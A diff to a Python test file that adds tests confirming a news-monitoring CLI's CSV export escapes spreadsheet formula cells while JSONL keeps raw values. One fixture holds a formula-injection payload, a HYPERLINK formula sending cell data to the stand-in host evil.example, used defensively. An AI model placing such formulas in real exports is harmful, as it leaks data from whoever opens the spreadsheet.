@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -130,3 +131,32 @@ def test_cli_export_and_digest(reviewed, tmp_path):
     result = radar("digest", "--since", "7d", "--format", "md", env=env)
     assert result.returncode == 0 and "## overheid" in result.stdout
     assert radar("digest", "--since", "yesterday", env=env).returncode == 2
+
+
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "outlet": "@SUM(1+1)",
+            "url": "https://example.nl/+plus", "text": "-2+3 bewoners ontwerpen mee aan het park. " * 10}
+
+
+def test_csv_export_neutralises_formula_cells_but_not_jsonl(tmp_path):
+    jsonl = tmp_path / "formulas.jsonl"
+    lines = [{"id": "f1", **FORMULAS}, {"id": "f2", "title": "+31 20 123", "outlet": "\tTab",
+                                        "text": "Gewone tekst over de buurt die mee beslist. " * 10}]
+    jsonl.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
+    env = {"RADAR_DATA_DIR": str(tmp_path / "local")}
+    assert radar("ingest", str(jsonl), env=env).returncode == 0
+    result = radar("export", "--format", "csv", "--status", "all", env=env)
+    assert result.returncode == 0, result.stderr
+    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
+    first = rows["'" + FORMULAS["title"]]  # a leading quote: the spreadsheet shows text, runs nothing
+    assert first["outlet"] == "'@SUM(1+1)" and first["text"].startswith("'-2+3 ")
+    assert first["url"] == FORMULAS["url"]  # only the first character matters
+    assert rows["'+31 20 123"]["outlet"] == "'\tTab"
+    raw = {r["title"]: r for r in map(json.loads, radar("export", "--status", "all", env=env).stdout.splitlines())}
+    assert raw[FORMULAS["title"]]["outlet"] == "@SUM(1+1)"  # JSONL keeps the raw value
+
+
+def test_csv_export_keeps_negative_numbers_as_numbers():
+    row = {name: None for name in COLUMNS} | {"article_id": -1, "score": -0.25, "title": "-0.25", "flagged": False}
+    [parsed] = csv.DictReader(io.StringIO(write_export([row], "csv").decode("utf-8")))
+    assert parsed["article_id"] == "-1" and parsed["score"] == "-0.25" and parsed["flagged"] == "false"
+    assert parsed["title"] == "'-0.25"  # a string cell is text, whatever it looks like
